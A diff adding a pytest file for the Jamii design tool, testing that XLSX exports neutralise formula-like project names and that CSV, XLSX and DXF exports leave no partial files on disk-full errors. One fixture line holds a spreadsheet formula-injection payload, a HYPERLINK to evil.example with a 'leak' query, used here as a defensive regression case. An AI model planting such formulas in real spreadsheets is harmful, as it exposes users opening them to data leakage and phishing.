@@ -1,0 +1,84 @@
+"""Exports are all-or-nothing and carry no live formula a user did not ask Jamii for."""
+
+from __future__ import annotations
+
+import dataclasses
+
+import pytest
+from openpyxl import load_workbook
+
+from designer.cli import main
+from designer.io.project_file import save_project
+from designer.model.commands import ReplaceRecord
+from tests.io.drawing_fixtures import small_settlement
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open the bill")'
+
+
+def test_a_project_name_starting_with_equals_is_text_in_the_bill_xlsx(tmp_path, capsys):
+    """Was: a live HYPERLINK formula in the bill's XLSX."""
+    doc = small_settlement()
+    ReplaceRecord(doc.project, dataclasses.replace(doc.project, name=HYPERLINK), "rename").do(doc)
+    project = tmp_path / "p.jamii"
+    save_project(doc, project)
+    out = tmp_path / "bill.xlsx"
+    assert main(["export", str(project), "--option", "opt-a", "--xlsx", str(out)]) == 0, (
+        capsys.readouterr().err
+    )
+    wb = load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    formulas = [str(c.value) for c in cells if c.data_type == "f"]
+    assert formulas and all("HYPERLINK" not in f for f in formulas)
+    assert any(f.startswith("=ROUND(") for f in formulas)  # Jamii's own Amount formulas stay
+    assert HYPERLINK in {c.value for c in cells}
+
+
+def test_costdb_export_that_fails_leaves_no_file(tmp_path, capsys, monkeypatch):
+    """Was: a 0-byte workbook when the disk filled during `costdb export`."""
+    import costing.db.io_tables as io_tables
+
+    def half_then_full(data, out):
+        out.write_bytes(b"PK\x03\x04half")
+        raise OSError(28, "No space left on device", str(out))
+
+    monkeypatch.setattr(io_tables, "_write_xlsx", half_then_full)
+    out = tmp_path / "lib.xlsx"
+    assert main(["costdb", "export", "jamii-default", str(out)]) == 2
+    assert "No space left on device" in capsys.readouterr().err
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_costdb_export_to_a_folder_replaces_whole_tables(tmp_path, capsys):
+    out = tmp_path / "tables"
+    assert main(["costdb", "export", "jamii-default", str(out)]) == 0
+    first = {p.name: p.read_bytes() for p in out.iterdir()}
+    assert "assembly.csv" in first
+    assert main(["costdb", "export", "jamii-default", str(out)]) == 0
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == first
+    assert [p.name for p in tmp_path.iterdir()] == ["tables"]
+
+
+def test_house_plan_dxf_that_fails_keeps_the_previous_file(tmp_path, monkeypatch):
+    """Was: a 0-byte house-plan DXF on a full disk."""
+    import ezdxf.document
+
+    out = tmp_path / "plans.dxf"
+    out.write_text("previous", encoding="utf-8")
+
+    def full_disk(self, filename=None, **_kw):
+        open(filename, "w").write("0\nSECTION\n")
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(ezdxf.document.Drawing, "saveas", full_disk)
+    with pytest.raises(OSError):
+        _plan(out)
+    assert out.read_text(encoding="utf-8") == "previous"
+    assert [p.name for p in tmp_path.iterdir()] == ["plans.dxf"]
+
+
+def _plan(out):
+    from designer.io.house_library import load_library
+    from designer.render.house_dxf import write_house_plans_dxf
+
+    lib = load_library(None)
+    write_house_plans_dxf([lib.get("core-1room")], out)
